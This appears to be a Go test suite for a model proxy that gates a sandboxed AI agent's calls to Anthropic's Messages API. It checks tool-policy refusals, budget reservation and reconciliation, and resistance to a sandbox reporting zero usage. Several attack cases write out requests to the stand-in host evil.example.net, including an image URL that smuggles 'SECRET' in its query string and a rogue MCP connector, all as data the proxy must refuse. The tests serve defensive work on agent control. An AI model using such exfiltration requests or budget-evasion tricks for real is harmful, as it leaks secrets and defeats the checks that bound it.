package api_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/fluidbox/fluidbox/shared/budget"
)

// recorder is a loopback model upstream that records every request it
// receives and answers with what the test set.
type recorder struct {
	srv    *httptest.Server
	mu     sync.Mutex
	bodies [][]byte
	hdrs   []http.Header
	answer func(w http.ResponseWriter, body []byte)
}

func newRecorder(t *testing.T, answer func(w http.ResponseWriter, body []byte)) *recorder {
	t.Helper()
	r := &recorder{answer: answer}
	r.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		b, _ := io.ReadAll(req.Body)
		r.mu.Lock()
		r.bodies = append(r.bodies, b)
		r.hdrs = append(r.hdrs, req.Header.Clone())
		r.mu.Unlock()
		r.answer(w, b)
	}))
	t.Cleanup(r.srv.Close)
	return r
}

func (r *recorder) received() [][]byte {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([][]byte(nil), r.bodies...)
}

// answerJSON answers a non-streaming message of model with usage.
func answerJSON(model, usage string, content string) func(http.ResponseWriter, []byte) {
	return func(w http.ResponseWriter, _ []byte) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"id":"msg_1","type":"message","role":"assistant","model":%q,"content":[%s],"stop_reason":"end_turn","usage":%s}`, model, content, usage)
	}
}

const serverToolPolicy = `{"name":"server-tools","default_verdict":"deny","rules":[
 {"id":"search-few","tool":"anthropic__web_search","match":{"input":{"/max_uses":["1","2","3","4","5","100"]}},"verdict":"allow"},
 {"id":"fetch-docs","tool":"anthropic__web_fetch","match":{"input":{"/allowed_domains/0":["docs.example.com"]}},"verdict":"allow"},
 {"id":"fetch-urls","tool":"anthropic__web_fetch","match":{"input":{"/url":["https://docs.example.com/*"]}},"verdict":"allow"},
 {"id":"code","tool":"anthropic__code_execution","verdict":"allow"}]}`

func (p *proxyStack) post(id, key, body string, hdr ...string) (int, string) {
	p.t.Helper()
	req, _ := http.NewRequest("POST", p.url+"/v1/sessions/"+id+"/model/v1/messages", strings.NewReader(body))
	req.Header.Set("x-api-key", key)
	req.Header.Set("anthropic-version", "2023-06-01")
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Add(hdr[i], hdr[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		p.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// refusals returns the run's model.refused events.
func (p *proxyStack) refusals(id string) []map[string]any {
	p.t.Helper()
	var out []map[string]any
	for _, e := range p.ledger(id) {
		if e.Type == "model.refused" {
			out = append(out, reconciled(p.t, e))
		}
	}
	return out
}

func msgBody(extra string) string {
	return `{"model":"claude-haiku-4-5","max_tokens":256,"messages":[{"role":"user","content":"` + promptCanary + `"}]` + extra + `}`
}

// TestModelProxyRefusesAttacks: each attack of the review is refused before
// anything is forwarded, with Anthropic's error shape, a message that says
// what to change, and a model.refused event naming the reason (and for the
// gate, the tool and the stage).
func TestModelProxyRefusesAttacks(t *testing.T) {
	t.Parallel()
	up := newRecorder(t, answerJSON("claude-haiku-4-5", `{"input_tokens":1,"output_tokens":1}`, `{"type":"text","text":"never"}`))
	p := newProxyStack(t, up.srv.URL)
	pol := p.policy(serverToolPolicy)
	trusted, tok := p.gateRun(pol, runOpts{budget: 5, bundle: "anthropic-server-tools"})
	readOnly, roTok := p.gateRun(pol, runOpts{budget: 5, bundle: "anthropic-server-tools", tier: "read_only"})
	plain, plainTok := p.gateRun(pol, runOpts{budget: 5})

	search := func(maxUses string) string {
		return `,"tools":[{"type":"web_search_20250305","name":"web_search"` + maxUses + `}]`
	}
	fetch := `,"tools":[{"type":"web_fetch_20250910","name":"web_fetch","max_uses":2,"allowed_domains":["docs.example.com"]}]`
	urlImage := `{"model":"claude-haiku-4-5","max_tokens":64,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example.net/x.png?d=SECRET"}}]}]}`
	cases := []struct {
		name, run, tok, body string
		hdr                  []string
		status               int
		reason, tool, stage  string
		says                 string
	}{
		{"web search on a run without the bundle", plain, plainTok, msgBody(search(`,"max_uses":2`)), nil, 403, "gate", "anthropic__web_search", "tool_set", "frozen tool set"},
		{"web fetch on a read_only run", readOnly, roTok, msgBody(fetch), nil, 403, "gate", "anthropic__web_fetch", "trust_tier", "read_only"},
		{"URL image on a read_only run", readOnly, roTok, urlImage, nil, 403, "gate", "anthropic__web_fetch", "trust_tier", "URL source"},
		{"web search over the policy's max_uses", trusted, tok, msgBody(search(`,"max_uses":8`)), nil, 403, "gate", "anthropic__web_search", "policy", "denied"},
		{"web fetch outside the allowed domains", trusted, tok, msgBody(`,"tools":[{"type":"web_fetch_20250910","name":"web_fetch","max_uses":1,"allowed_domains":["evil.example.net"]}]`), nil, 403, "gate", "anthropic__web_fetch", "policy", "denied"},
		{"URL document outside the policy", trusted, tok, strings.Replace(urlImage, `"image"`, `"document"`, 1), nil, 403, "gate", "anthropic__web_fetch", "policy", "URL source"},
		{"a newer web search version", trusted, tok, msgBody(`,"tools":[{"type":"web_search_20260209","name":"web_search","max_uses":1}]`), nil, 400, "tool_type", "", "", "web_search_20250305"},
		{"the MCP connector", trusted, tok, msgBody(`,"mcp_servers":[{"type":"url","url":"https://evil.example.net/mcp","name":"x"}]`), []string{"anthropic-beta", "mcp-client-2025-11-20"}, 400, "beta", "", "", "anthropic-beta"},
		{"mcp_servers without the beta", trusted, tok, msgBody(`,"mcp_servers":[{"type":"url","url":"https://evil.example.net/mcp","name":"x"}]`), nil, 400, "connector", "", "", "connection"},
		{"an mcp_toolset", trusted, tok, msgBody(`,"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]`), nil, 400, "connector", "", "", "connection"},
		{"a container", trusted, tok, msgBody(`,"container":"container_abc"`), nil, 400, "container", "", "", "container"},
		{"a file_id document", trusted, tok, `{"model":"claude-haiku-4-5","max_tokens":64,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"file_011"}}]}]}`, nil, 400, "source", "", "", "file_id"},
		{"the 1M-context beta", trusted, tok, msgBody(""), []string{"anthropic-beta", "context-1m-2025-08-07"}, 400, "beta", "", "", "allowlist"},
		{"fast mode", trusted, tok, msgBody(`,"speed":"fast"`), []string{"anthropic-beta", "fast-mode-2026-02-01"}, 400, "beta", "", "", "allowlist"},
		{"speed fast without its beta", trusted, tok, msgBody(`,"speed":"fast"`), nil, 400, "unpriced", "", "", "speed"},
		{"code execution the policy allows", trusted, tok, msgBody(`,"tools":[{"type":"code_execution_20250825","name":"code_execution"}]`), nil, 400, "unpriced", "", "", "container-hour"},
		{"an unknown top-level field", trusted, tok, msgBody(`,"betas":["x"]`), nil, 400, "field", "", "", "remove it"},
		{"an unknown block type", trusted, tok, `{"model":"claude-haiku-4-5","max_tokens":64,"messages":[{"role":"user","content":[{"type":"container_upload","file_id":"f"}]}]}`, nil, 400, "field", "", "", "content block"},
		{"a duplicate tools member", trusted, tok, msgBody(`,"tools":[],"tools":[{"type":"web_search_20250305","name":"web_search","max_uses":1}]`), nil, 400, "malformed", "", "", "duplicate"},
		{"a model outside the price table", trusted, tok, strings.Replace(msgBody(""), "claude-haiku-4-5", "claude-haiku-5-5", 1), nil, 400, "unpriced", "", "", "price table"},
		{"a query string", trusted, tok, msgBody(""), nil, 400, "query", "", "", "beta=true"},
	}
	for _, c := range cases {
		before := len(p.refusals(c.run))
		var st int
		var body string
		if c.reason == "query" {
			req, _ := http.NewRequest("POST", p.url+"/v1/sessions/"+c.run+"/model/v1/messages?beta=true&x=1", strings.NewReader(c.body))
			req.Header.Set("x-api-key", c.tok)
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			st, body = resp.StatusCode, string(b)
		} else {
			st, body = p.post(c.run, c.tok, c.body, c.hdr...)
		}
		if st != c.status || !strings.Contains(body, `"type":"error"`) || !strings.Contains(body, c.says) {
			t.Errorf("%s: %d %s, want %d in Anthropic's shape saying %q", c.name, st, body, c.status, c.says)
		}
		if strings.Contains(body, promptCanary) || strings.Contains(body, "SECRET") {
			t.Errorf("%s: the error body echoes the request", c.name)
		}
		refs := p.refusals(c.run)
		if len(refs) != before+1 {
			t.Errorf("%s: %d model.refused events, want one more than %d", c.name, len(refs), before)
			continue
		}
		ev := refs[len(refs)-1]
		if ev["reason"] != c.reason || (c.tool != "" && ev["tool"] != c.tool) || (c.stage != "" && ev["stage"] != c.stage) {
			t.Errorf("%s: model.refused = %v, want reason %s tool %q stage %q", c.name, ev, c.reason, c.tool, c.stage)
		}
		if b, _ := json.Marshal(ev); bytes.Contains(b, []byte(promptCanary)) || bytes.Contains(b, []byte("evil.example.net")) {
			t.Errorf("%s: the refusal event holds request content: %s", c.name, b)
		}
	}
	if n := len(up.received()); n != 0 {
		t.Errorf("the upstream received %d refused requests; want none", n)
	}
	for _, id := range []string{trusted, readOnly, plain} {
		if evs := p.budgetEvents(id); len(evs) != 0 {
			t.Errorf("refused requests booked money on %s: %v", id, evs)
		}
	}
}

// TestModelProxyServerTools: an allowed web search is forwarded with the
// max_uses fluidbox imposed, reserved with its fees, and 100 searches cost
// exactly $1.00 more than the same tokens; the ledger names the tool and
// its count, nothing of the content.
func TestModelProxyServerTools(t *testing.T) {
	t.Parallel()
	const tokens = `"input_tokens":1000,"output_tokens":200`
	searches := 0
	var mu sync.Mutex
	up := newRecorder(t, func(w http.ResponseWriter, body []byte) {
		mu.Lock()
		n := searches
		mu.Unlock()
		content := `{"type":"text","text":"found"}`
		if n > 0 {
			content = `{"type":"server_tool_use","id":"srvtoolu_1","name":"web_search","input":{"query":"` + promptCanary + `"}},` + content
		}
		answerJSON("claude-haiku-4-5-20251001", fmt.Sprintf(`{%s,"server_tool_use":{"web_search_requests":%d}}`, tokens, n), content)(w, body)
	})
	p := newProxyStack(t, up.srv.URL)
	// 100 searches may each bring a context window of results: the bound is $41.
	id, tok := p.gateRun(p.policy(serverToolPolicy), runOpts{budget: 50, bundle: "anthropic-server-tools"})

	costOf := func(n int, maxUses string) (float64, map[string]any, map[string]any) {
		mu.Lock()
		searches = n
		mu.Unlock()
		settled := len(p.budgetEvents(id)) / 2
		st, body := p.post(id, tok, msgBody(`,"tools":[{"type":"web_search_20250305","name":"web_search"`+maxUses+`}]`))
		if st != 200 {
			t.Fatalf("web search request = %d %s", st, body)
		}
		p.waitSettled(id, settled+1)
		evs := p.budgetEvents(id)
		return evs[len(evs)-1]["cost_micros"].(float64), evs[len(evs)-2], evs[len(evs)-1]
	}
	zero, reserved, _ := costOf(0, "")
	if got := up.received()[0]; !bytes.Contains(got, []byte(`"max_uses":5`)) {
		t.Errorf("forwarded tools = %s, want max_uses 5 imposed", got)
	}
	if tools, _ := reserved["server_tools"].([]any); len(tools) != 1 || tools[0] != "anthropic__web_search" {
		t.Errorf("budget.reserved = %v, want server_tools [anthropic__web_search]", reserved)
	}
	hundred, _, rec := costOf(100, `,"max_uses":100`)
	if hundred-zero != 1_000_000 {
		t.Errorf("100 web searches cost %v micros more, want exactly $1.00 (1000000)", hundred-zero)
	}
	if uses, _ := rec["server_tool_uses"].(map[string]any); uses["anthropic__web_search"] != 100.0 || rec["web_search_requests"] != 100.0 {
		t.Errorf("budget.reconciled = %v, want 100 web searches recorded by name", rec)
	}
	p.checkNothingKept(tok)
}

// TestModelProxyUsageCannotBeLowered: while the proxy's stream runs, the
// sandbox (holding the session token and the request id from the ledger)
// posts zero usage: refused, and so is a runner token's report on the
// proxy's reservation; the request is booked at what the upstream reported.
func TestModelProxyUsageCannotBeLowered(t *testing.T) {
	t.Parallel()
	release := make(chan struct{})
	up := newRecorder(t, func(w http.ResponseWriter, _ []byte) {
		w.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(w, "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"model\":\"claude-haiku-4-5\",\"usage\":{\"input_tokens\":50000,\"output_tokens\":1}}}\n\n")
		w.(http.Flusher).Flush()
		<-release
		io.WriteString(w, "data: {\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"end_turn\"},\"usage\":{\"output_tokens\":4000}}\n\ndata: {\"type\":\"message_stop\"}\n\n")
	})
	p := newProxyStack(t, up.srv.URL)
	id, tok := p.gateRun(p.policy(basicPolicy), runOpts{budget: 5})
	done := make(chan int)
	go func() {
		st, _ := p.post(id, tok, strings.Replace(msgBody(""), `"max_tokens":256`, `"max_tokens":8000,"stream":true`, 1))
		done <- st
	}()
	var reqID string
	for reqID == "" {
		for _, e := range p.budgetEvents(id) {
			if e["type"] == "budget.reserved" {
				reqID = e["request_id"].(string)
			}
		}
		_ = p.led.Wait(t.Context(), id, 0)
	}
	zero := map[string]any{"input_tokens": 0, "output_tokens": 0}
	if r := p.do("POST", "/v1/sessions/"+id+"/admissions/"+reqID+"/usage", tok, zero); r.status != 403 {
		t.Errorf("session token's usage report = %d %s, want 403", r.status, r.raw)
	}
	if r := p.do("POST", "/v1/sessions/"+id+"/admissions/"+reqID+"/usage", p.runner(id), zero); r.status != 409 {
		t.Errorf("runner token's report on the proxy's reservation = %d %s, want 409", r.status, r.raw)
	}
	close(release)
	if st := <-done; st != 200 {
		t.Fatalf("stream = %d", st)
	}
	p.waitSettled(id, 1)
	want := haikuCost(budget.Usage{InputTokens: 50000, OutputTokens: 4000})
	if h := p.head(id); h.BudgetSpent != want {
		t.Errorf("spent %d, want %d (the upstream's usage)", h.BudgetSpent, want)
	}
	if r := p.do("POST", "/v1/sessions/"+id+"/admissions/"+reqID+"/usage", p.runner(id), zero); r.status != 409 {
		t.Errorf("a late report = %d, want 409", r.status)
	}
}

// TestModelProxyLongEventLine: a 2 MiB web fetch result on one event line
// passes through whole and the request reconciles exactly.
func TestModelProxyLongEventLine(t *testing.T) {
	t.Parallel()
	big := strings.Repeat("f", 2<<20)
	up := newRecorder(t, func(w http.ResponseWriter, _ []byte) {
		w.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(w, "data: {\"type\":\"message_start\",\"message\":{\"model\":\"claude-haiku-4-5\",\"usage\":{\"input_tokens\":600000,\"output_tokens\":1}}}\n\n")
		io.WriteString(w, "data: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"server_tool_use\",\"id\":\"srvtoolu_1\",\"name\":\"web_fetch\",\"input\":{}}}\n\n")
		io.WriteString(w, "data: {\"type\":\"content_block_start\",\"index\":1,\"content_block\":{\"type\":\"web_fetch_tool_result\",\"content\":\""+big+"\"}}\n\n")
		io.WriteString(w, "data: {\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"end_turn\"},\"usage\":{\"output_tokens\":300,\"server_tool_use\":{\"web_fetch_requests\":1}}}\n\ndata: {\"type\":\"message_stop\"}\n\n")
	})
	p := newProxyStack(t, up.srv.URL)
	id, tok := p.gateRun(p.policy(serverToolPolicy), runOpts{budget: 50, bundle: "anthropic-server-tools"})
	st, body := p.post(id, tok, strings.Replace(msgBody(`,"tools":[{"type":"web_fetch_20250910","name":"web_fetch","max_uses":1,"allowed_domains":["docs.example.com"]}]`), `"max_tokens":256`, `"max_tokens":1000,"stream":true`, 1))
	if st != 200 || !strings.Contains(body, big) {
		t.Fatalf("stream = %d (%d bytes), want 200 with the 2 MiB line passed through", st, len(body))
	}
	p.waitSettled(id, 1)
	evs := p.budgetEvents(id)
	rec := evs[len(evs)-1]
	if want := float64(haikuCost(budget.Usage{InputTokens: 600000, OutputTokens: 300})); rec["settlement"] != "usage" || rec["cost_micros"] != want {
		t.Errorf("budget.reconciled = %v, want usage at %v", rec, want)
	}
	if uses, _ := rec["server_tool_uses"].(map[string]any); uses["anthropic__web_fetch"] != 1.0 {
		t.Errorf("budget.reconciled = %v, want one web fetch recorded", rec)
	}
	if got := up.received()[0]; !bytes.Contains(got, []byte(`"max_content_tokens":50000`)) {
		t.Errorf("forwarded tools = %s, want max_content_tokens imposed", got)
	}
}

// TestModelProxySmallBudget: Claude Code's own request (max_tokens 128000
// on its default model) on a $2 run is forwarded with max_tokens lowered to
// what the budget affords, recorded in budget.reserved; on a run that cannot
// afford even the floor it is a 402 naming both amounts, in the ledger.
func TestModelProxySmallBudget(t *testing.T) {
	t.Parallel()
	cc, err := os.ReadFile("../modelproxy/testdata/claude-code-2.1.332-messages.json")
	if err != nil {
		t.Fatal(err)
	}
	up := newRecorder(t, answerJSON("claude-opus-5-5", `{"input_tokens":20000,"output_tokens":300}`, `{"type":"text","text":"ok"}`))
	p := newProxyStack(t, up.srv.URL)
	id, tok := p.gateRun(p.policy(basicPolicy), runOpts{budget: 2})
	ccBetas := []string{"anthropic-beta", "claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,per-turn-control-2026-07-01,mid-conversation-tool-changes-2026-07-01,thinking-token-count-2026-05-13,effort-2025-11-24"}
	noStream := bytes.Replace(cc, []byte(`"stream":true`), []byte(`"stream":false`), 1)
	st, body := p.post(id, tok, string(noStream), ccBetas...)
	if st != 200 {
		t.Fatalf("Claude Code's request on a $2 run = %d %s, want it forwarded", st, body)
	}
	var fwd struct {
		MaxTokens int64 `json:"max_tokens"`
	}
	_ = json.Unmarshal(up.received()[0], &fwd)
	p.waitSettled(id, 1)
	res := p.budgetEvents(id)[0]
	if fwd.MaxTokens >= 128000 || fwd.MaxTokens < 1024 || res["max_tokens_requested"] != 128000.0 || res["max_tokens_forwarded"] != float64(fwd.MaxTokens) {
		t.Errorf("forwarded max_tokens %d, budget.reserved %v; want it lowered below 128000 and recorded", fwd.MaxTokens, res)
	}
	if res["reserved_micros"].(float64) > 2_000_000 {
		t.Errorf("reserved %v micros on a $2 run", res["reserved_micros"])
	}

	poor, poorTok := p.gateRun(p.policy(basicPolicy), runOpts{budget: 0.01})
	st, body = p.post(poor, poorTok, string(noStream), ccBetas...)
	if st != 402 || !strings.Contains(body, "billing_error") || !strings.Contains(body, "is available") || !strings.Contains(body, "$0.01") {
		t.Errorf("on a $0.01 run = %d %s, want a 402 naming what is needed and what is available", st, body)
	}
	refs := p.refusals(poor)
	if len(refs) != 1 || refs[0]["reason"] != "budget" || refs[0]["available_micros"] != 10000.0 || refs[0]["needed_micros"].(float64) <= 10000 {
		t.Errorf("model.refused = %v, want the budget refusal with both amounts", refs)
	}
	if n := len(up.received()); n != 1 {
		t.Errorf("the upstream received %d requests, want only the first", n)
	}
}

// TestModelProxyModelMismatch: a response naming another model than the
// admitted one is not passed on and is settled in full.
func TestModelProxyModelMismatch(t *testing.T) {
	t.Parallel()
	up := newRecorder(t, answerJSON("claude-opus-4-1", `{"input_tokens":10,"output_tokens":10}`, `{"type":"text","text":"expensive"}`))
	p := newProxyStack(t, up.srv.URL)
	id, tok := p.gateRun(p.policy(basicPolicy), runOpts{budget: 5})
	if st, body := p.post(id, tok, msgBody("")); st != 502 || strings.Contains(body, "expensive") {
		t.Errorf("mismatched model = %d %s, want 502 and nothing passed", st, body)
	}
	p.waitSettled(id, 1)
	evs := p.budgetEvents(id)
	if evs[1]["settlement"] != "pessimistic" || evs[1]["cost_micros"] != evs[0]["reserved_micros"] {
		t.Errorf("settled %v, want the full reservation %v", evs[1], evs[0]["reserved_micros"])
	}
}

// TestModelProxyServerToolUsesFromBlocks: when the response's usage does
// not count the server tools' runs, the server_tool_use blocks of the
// stream do: two web searches are recorded by name and count, and billed.
func TestModelProxyServerToolUsesFromBlocks(t *testing.T) {
	t.Parallel()
	up := newRecorder(t, func(w http.ResponseWriter, _ []byte) {
		w.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(w, "data: {\"type\":\"message_start\",\"message\":{\"model\":\"claude-haiku-4-5\",\"usage\":{\"input_tokens\":3000,\"output_tokens\":1}}}\n\n")
		for i := range 2 {
			fmt.Fprintf(w, "data: {\"type\":\"content_block_start\",\"index\":%d,\"content_block\":{\"type\":\"server_tool_use\",\"id\":\"srvtoolu_%d\",\"name\":\"web_search\",\"input\":{\"query\":\"%s\"}}}\n\n", 2*i, i, promptCanary)
			fmt.Fprintf(w, "data: {\"type\":\"content_block_start\",\"index\":%d,\"content_block\":{\"type\":\"web_search_tool_result\",\"tool_use_id\":\"srvtoolu_%d\",\"content\":[]}}\n\n", 2*i+1, i)
		}
		io.WriteString(w, "data: {\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"end_turn\"},\"usage\":{\"output_tokens\":100}}\n\ndata: {\"type\":\"message_stop\"}\n\n")
	})
	p := newProxyStack(t, up.srv.URL)
	id, tok := p.gateRun(p.policy(serverToolPolicy), runOpts{budget: 50, bundle: "anthropic-server-tools"})
	st, body := p.post(id, tok, strings.Replace(msgBody(`,"tools":[{"type":"web_search_20250305","name":"web_search","max_uses":3}]`), `"max_tokens":256`, `"max_tokens":256,"stream":true`, 1))
	if st != 200 {
		t.Fatalf("stream = %d %s", st, body)
	}
	p.waitSettled(id, 1)
	evs := p.budgetEvents(id)
	res, rec := evs[0], evs[1]
	if tools, _ := res["server_tools"].([]any); len(tools) != 1 || tools[0] != "anthropic__web_search" {
		t.Errorf("budget.reserved = %v, want server_tools [anthropic__web_search]", res)
	}
	want := float64(haikuCost(budget.Usage{InputTokens: 3000, OutputTokens: 100}) + 2*10_000)
	if uses, _ := rec["server_tool_uses"].(map[string]any); len(uses) != 1 || uses["anthropic__web_search"] != 2.0 || rec["web_search_requests"] != 2.0 || rec["cost_micros"] != want {
		t.Errorf("budget.reconciled = %v, want 2 web searches by name, billed at %v", rec, want)
	}
	p.checkNothingKept(tok)
}

// TestModelProxyConcurrentSmallBudget: forty concurrent requests offering
// a web search on a $5 run. Each reservation is a true upper bound (the
// search may bring in a context window of results), so the run admits
// what it can afford, answers the rest 402 with a model.refused event
// each, and never spends more than its budget although every answer
// reports input far beyond the request's bytes.
func TestModelProxyConcurrentSmallBudget(t *testing.T) {
	t.Parallel()
	up := newRecorder(t, answerJSON("claude-haiku-4-5", `{"input_tokens":150000,"output_tokens":256,"server_tool_use":{"web_search_requests":1}}`, `{"type":"text","text":"found"}`))
	p := newProxyStack(t, up.srv.URL)
	id, tok := p.gateRun(p.policy(serverToolPolicy), runOpts{budget: 5, bundle: "anthropic-server-tools"})
	const n = 40
	statuses := make(chan int, n)
	var wg sync.WaitGroup
	for range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			st, _ := p.post(id, tok, msgBody(`,"tools":[{"type":"web_search_20250305","name":"web_search","max_uses":1}]`))
			statuses <- st
		}()
	}
	wg.Wait()
	close(statuses)
	ok, refused := 0, 0
	for st := range statuses {
		switch st {
		case 200:
			ok++
		case 402:
			refused++
		default:
			t.Errorf("status %d, want 200 or 402", st)
		}
	}
	if ok == 0 || refused == 0 {
		t.Fatalf("%d admitted, %d refused; want both on a $5 run", ok, refused)
	}
	if got := len(up.received()); got != ok {
		t.Errorf("the upstream received %d requests, want the %d admitted", got, ok)
	}
	p.waitSettled(id, ok)
	budgetRefusals := 0
	for _, ev := range p.refusals(id) {
		if ev["reason"] == "budget" {
			budgetRefusals++
		}
	}
	if budgetRefusals != refused {
		t.Errorf("%d budget refusals in the ledger for %d 402 answers", budgetRefusals, refused)
	}
	h := p.head(id)
	if h.BudgetAvailable < 0 || h.BudgetSpent > 5_000_000 || h.BudgetReserved != 0 {
		t.Errorf("head: available %d spent %d reserved %d; the run overspent its $5", h.BudgetAvailable, h.BudgetSpent, h.BudgetReserved)
	}
}

// TestModelProxyTooLarge: a body over the Messages API's 32 MiB is refused
// before it is read whole, and the refusal is in the ledger like any other.
func TestModelProxyTooLarge(t *testing.T) {
	t.Parallel()
	up := newRecorder(t, answerJSON("claude-haiku-4-5", `{"input_tokens":1,"output_tokens":1}`, `{"type":"text","text":"never"}`))
	p := newProxyStack(t, up.srv.URL)
	id, tok := p.gateRun(p.policy(basicPolicy), runOpts{budget: 5})
	big := msgBody(`,"system":"` + strings.Repeat("x", 32<<20) + `"`)
	if st, body := p.post(id, tok, big); st != 413 || !strings.Contains(body, "request_too_large") {
		t.Errorf("a 32 MiB body = %d %.200s, want 413 request_too_large", st, body)
	}
	if refs := p.refusals(id); len(refs) != 1 || refs[0]["reason"] != "too_large" || refs[0]["status"] != 413.0 {
		t.Errorf("model.refused = %v, want one too_large", refs)
	}
	if n := len(up.received()); n != 0 {
		t.Errorf("the upstream received %d requests", n)
	}
}

// TestModelProxyReservesCacheTTL: input is reserved at the 1-hour
// cache-write rate ($2 for claude-haiku-4-5) exactly when a cache_control
// asks for it, and at the 5-minute rate ($1.25) otherwise.
func TestModelProxyReservesCacheTTL(t *testing.T) {
	t.Parallel()
	up := newRecorder(t, answerJSON("claude-haiku-4-5", `{"input_tokens":1,"output_tokens":1}`, `{"type":"text","text":"ok"}`))
	p := newProxyStack(t, up.srv.URL)
	for i, c := range []struct {
		cache string
		rate  int64
	}{
		{``, 1_250_000},
		{`,"cache_control":{"type":"ephemeral"}`, 1_250_000},
		{`,"cache_control":{"type":"ephemeral","ttl":"5m"}`, 1_250_000},
		{`,"cache_control":{"type":"ephemeral","ttl":"1h"}`, 2_000_000},
	} {
		id, tok := p.gateRun(p.policy(basicPolicy), runOpts{budget: 1})
		body := `{"model":"claude-haiku-4-5","max_tokens":64,"messages":[{"role":"user","content":[{"type":"text","text":"hello"` + c.cache + `}]}]}`
		if st, resp := p.post(id, tok, body); st != 200 {
			t.Fatalf("%d: %d %s", i, st, resp)
		}
		p.waitSettled(id, 1)
		want := (64*5_000_000 + (int64(len(body))+8192)*c.rate + 999_999) / 1_000_000
		if got := p.budgetEvents(id)[0]["reserved_micros"]; got != float64(want) {
			t.Errorf("cache %q: reserved %v micros, want %d (input at %d micros per token)", c.cache, got, want, c.rate)
		}
	}
}
